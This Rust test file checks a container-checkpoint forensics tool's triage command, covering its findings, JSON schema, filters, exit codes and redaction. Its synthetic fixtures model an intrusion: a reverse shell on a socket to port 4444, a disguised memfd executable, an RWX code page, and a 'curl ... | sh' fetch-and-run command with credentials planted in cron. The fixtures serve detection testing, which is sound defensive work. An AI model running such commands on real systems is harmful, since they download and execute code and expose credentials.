//! `triage`: bundled and synthetic checkpoints, filters, forms, exit status.

use ckpt_synth::{Archive, Container, Dump, File, Member, Task, Vma, stories};
use tempfile::TempDir;

use crate::world::{archives, checkpoints, fixtures, run_in};

/// A folder with `checkpoint.tar`.
fn folder(archive: &Archive) -> TempDir {
    let folder = TempDir::new().expect("a folder");
    std::fs::write(folder.path().join("checkpoint.tar"), archive.tar()).expect("written");
    folder
}

/// A service, the shell of somebody who got in through it, and what that one brought.
fn intrusion() -> Archive {
    let socket = File::tcp(70, ([10, 88, 0, 5], 40_000), ([192, 0, 2, 7], 4444), "id\n", "");
    let mut dump = Dump::new();
    dump.container(Container::new("shop").command(&["nginx"]))
        .task(Task::new(1, 0).exe("/usr/sbin/nginx").argv(&["nginx"]))
        .task(
            Task::new(7, 1)
                .exe("/usr/bin/dash")
                .comm("sh")
                .argv(&["sh", "-i"])
                .fd(0, socket.clone())
                .fd(1, socket.clone())
                .fd(2, socket),
        )
        .task(Task::new(8, 7).exe_memfd("\x1b]0;x\x07", "\x7fELF").argv(&["[kworker/1:0]"]))
        .task(
            Task::new(9, 7)
                .exe("/usr/bin/app")
                .argv(&["app"])
                .map(Vma::anon(0x7100_0000_0000, 0x2000).prot(7))
                .pages(0x7100_0000_0000, b"\x90\x90\xcc"),
        );
    Archive::podman(&dump)
}

#[test]
fn bundled_checkpoints() {
    for (name, file) in [
        ("looper", "looper-criu-4.2.tar.zst"),
        ("stale", "evolve-with-stale-images.tar.zst"),
        ("aborted", "runc-aborted.tar.zst"),
        ("orphan", "containerd-orphan.tar.zst"),
    ] {
        let ran = run_in(&fixtures(), &["triage", file]);
        insta::assert_snapshot!(format!("real-{name}"), ran.transcript());
    }
}

#[test]
fn what_is_quoted_is_redacted_unless_asked() {
    let mut dump = Dump::new();
    let command = "curl -u joe:hunter2-Pa55 http://192.0.2.7/x | sh";
    dump.container(Container::new("shop").command(&["sleep"]))
        .task(Task::new(1, 0).exe("/usr/bin/dash").comm("sh").argv(&["sh", "-c", command]));
    let mut diff = Archive::new();
    let line = format!("* * * * * root PGPASSWORD=hunter2-Pa55 psql; {command}\n");
    diff.push(Member::file("etc/cron.d/update", line));
    let mut archive = Archive::podman(&dump);
    archive.without("rootfs-diff.tar").member("rootfs-diff.tar", diff.tar());
    let folder = folder(&archive);
    for args in [
        &["triage", "checkpoint.tar"][..],
        &["triage", "checkpoint.tar", "--explain"],
        &["triage", "checkpoint.tar", "--format", "json"],
        &["triage", "checkpoint.tar", "--format", "jsonl"],
        &["verify", "checkpoint.tar"],
        &["verify", "checkpoint.tar", "--format", "json"],
    ] {
        let ran = run_in(folder.path(), args);
        assert!(!ran.stdout.contains("hunter2"), "{}", ran.transcript());
        let whole = run_in(folder.path(), &[args, &["--reveal"]].concat());
        let quoted = whole.stdout.contains("joe:hunter2-Pa55");
        assert_eq!(quoted, ran.stdout.contains("joe:[redacted: "), "{}", whole.transcript());
        assert!(quoted || args.len() < 3, "{}", whole.transcript());
    }
}

#[test]
fn an_intrusion() {
    let folder = folder(&intrusion());
    let shown = run_in(folder.path(), &["triage", "checkpoint.tar"]);
    insta::assert_snapshot!("intrusion", shown.transcript());
    let explained = ["triage", "checkpoint.tar", "--explain", "--only", "shell-on-socket"];
    insta::assert_snapshot!("intrusion-explained", run_in(folder.path(), &explained).transcript());
    let json = ["triage", "checkpoint.tar", "--format", "json", "--min-severity", "critical"];
    insta::assert_snapshot!("intrusion-json", run_in(folder.path(), &json).transcript());
    for ran in [shown, run_in(folder.path(), &["triage", "-v", "checkpoint.tar"])] {
        assert!(!ran.stdout.contains('\u{1b}') && !ran.stdout.contains('\u{7}'));
    }
}

#[test]
fn the_names_that_programs_rely_on() {
    let folder = folder(&intrusion());
    let document = run_in(folder.path(), &["triage", "checkpoint.tar", "--format", "json"]).json();
    assert_eq!(document["schema"], "ckpt-inspect/triage/1");
    let findings = document["findings"].as_array().expect("findings");
    let shell = findings.iter().find(|one| one["id"] == "shell-on-socket").expect("the shell");
    assert_eq!(shell["severity"], "critical");
    assert_eq!(shell["confidence"], "high");
    assert_eq!(shell["pid"], 7);
    assert_eq!(shell["path"], "/usr/bin/dash");
    assert!(shell["attack"].as_array().expect("techniques").iter().any(|id| id == "T1059.004"));
    let code = findings.iter().find(|one| one["id"] == "writable-executable-mapping");
    let code = code.expect("the code");
    assert_eq!(code["address"], "0x710000000000");
    let seen = &code["evidence"][0];
    assert!(seen["member"].as_str().expect("a member").starts_with("checkpoint/pages-"));
    assert!(seen["offset"].is_u64());
    let count = |severity: &str| findings.iter().filter(|one| one["severity"] == severity).count();
    assert_eq!(document["counts"]["critical"], count("critical"));

    let lines = run_in(folder.path(), &["triage", "checkpoint.tar", "--format", "jsonl"]);
    assert_eq!(lines.stdout.lines().count(), findings.len());
}

#[test]
fn filters_and_exit_status() {
    let folder = folder(&intrusion());
    let status = |args: &[&str]| {
        let args = [&["triage", "checkpoint.tar"], args].concat();
        run_in(folder.path(), &args).status
    };
    assert_eq!(status(&[]), 0);
    assert_eq!(status(&["--exit-code"]), 1);
    assert_eq!(status(&["--exit-code", "--only", "raw-socket"]), 0);
    assert_eq!(status(&["--only", "no-such-thing"]), 2);
    assert_eq!(status(&["--base", "absent"]), 2);
    let only = ["triage", "checkpoint.tar", "--only", "executable-memfd", "--format", "json"];
    let document = run_in(folder.path(), &only).json();
    assert_eq!(document["findings"].as_array().expect("findings").len(), 1);
    // Nothing found proves nothing, and says so.
    let quiet = run_in(folder.path(), &["triage", "checkpoint.tar", "--only", "raw-socket"]);
    assert!(quiet.stdout.contains("no findings"), "{}", quiet.stdout);
    assert!(quiet.stdout.contains("prove nothing"), "{}", quiet.stdout);
}

#[test]
fn threads_change_nothing() {
    let folder = folder(&intrusion());
    let with = |threads: &str| {
        run_in(folder.path(), &["triage", "checkpoint.tar", "--explain", "--threads", threads])
    };
    assert_eq!(with("1").stdout, with("4").stdout);
}

#[test]
fn rules_are_listed_without_evidence() {
    let folder = TempDir::new().expect("a folder");
    let ran = run_in(folder.path(), &["triage", "--rules"]);
    assert_eq!(ran.status, 0, "{}", ran.transcript());
    assert!(ran.stdout.lines().any(|line| line.starts_with("shell-on-socket ")));
    let json = run_in(folder.path(), &["triage", "--rules", "--format", "json"]).json();
    assert_eq!(json["schema"], "ckpt-inspect/triage-rules/1");
    let rules = json["rules"].as_array().expect("rules");
    assert!(rules.iter().all(|rule| rule["check"].is_string()));
    let one = ["triage", "--rules", "--only", "executable-memfd", "--explain"];
    insta::assert_snapshot!("rule", run_in(folder.path(), &one).transcript());
    assert_eq!(run_in(folder.path(), &["triage"]).status, 2);
}

#[test]
fn stories() {
    for (name, dump) in [
        ("deleted", stories::deleted_exe()),
        ("kworker", stories::kworker()),
        ("control-bytes", stories::control_bytes()),
    ] {
        let folder = folder(&Archive::podman(&dump));
        let ran = run_in(folder.path(), &["triage", "checkpoint.tar", "--min-severity", "low"]);
        insta::assert_snapshot!(format!("story-{name}"), ran.transcript());
    }
}

#[test]
fn all_checkpoints() {
    let Some(folder) = archives("all_checkpoints") else { return };
    for evidence in checkpoints(&folder) {
        let ran = run_in(&folder, &["triage", &evidence, "--format", "json"]);
        assert!(matches!(ran.status, 0 | 2 | 3), "{evidence}: {}", ran.transcript());
    }
}
